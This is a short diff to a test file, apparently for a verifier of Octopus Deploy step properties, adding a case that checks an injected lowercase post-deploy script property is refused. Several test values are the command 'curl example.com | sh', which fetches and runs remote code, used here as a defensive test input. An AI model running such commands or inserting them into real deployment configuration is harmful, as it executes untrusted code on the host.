@@ -81,6 +81,7 @@ it.each([
   ['Octopus.Action.Script.ScriptBody[Bash]', 'curl example.com | sh'],
   ['Octopus.Action.CustomScripts.PreDeploy.sh', 'curl example.com | sh'],
   ['Octopus.Action.EnabledFeatures', 'Octopus.Features.CustomScripts'],
+  ['octopus.action.customscripts.postdeploy.sh', 'curl example.com | sh'],
 ])('a script beside which %s makes Octopus run something else is refused', (name, value) => {
   const { verdict, differences } = verify(bytesOf({ ...ours, Properties: { ...ours.Properties, [name]: value } }));
   expect({ verdict, differences }).toEqual({
